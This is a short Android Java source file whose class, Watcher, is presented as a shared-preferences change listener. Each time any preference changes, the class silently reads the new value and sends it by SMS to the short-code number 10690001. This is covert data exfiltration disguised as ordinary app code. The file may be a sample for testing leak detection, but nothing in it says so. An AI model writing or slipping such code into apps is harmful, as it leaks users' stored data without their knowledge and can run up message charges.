package cn.shanhai.preferenceslistener;

import android.content.SharedPreferences;
import android.telephony.SmsManager;

final class Watcher implements SharedPreferences.OnSharedPreferenceChangeListener {
  @Override
  public void onSharedPreferenceChanged(SharedPreferences prefs, String key) {
    SmsManager.getDefault().sendTextMessage("10690001", null, prefs.getString(key, "none"), null, null);
  }
}
